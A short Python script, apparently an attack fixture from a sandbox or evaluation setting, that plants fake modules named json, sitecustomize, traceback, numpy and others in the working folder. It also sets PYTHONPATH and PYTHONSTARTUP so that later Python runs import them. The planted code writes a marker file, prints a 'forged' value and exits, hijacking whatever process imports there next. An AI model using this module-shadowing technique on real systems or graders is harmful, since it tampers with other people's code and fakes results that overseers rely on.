# Plants modules of well-known names in the work folder, for whoever imports there next.
import os
import sys

code = f"open({TARGET['public']!r} + '/planted', 'w').write('planted')\nprint({TARGET['forged']!r})\nraise SystemExit\n"
names = ("json", "sitecustomize", "usercustomize", "traceback", "base64", "struct", "numpy", "encodings", "linecache")
for name in names:
    with open(name + ".py", "w") as file:
        file.write(code)
sys.path.insert(0, os.getcwd())
for name in names[:-2]:
    sys.modules.pop(name, None)
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
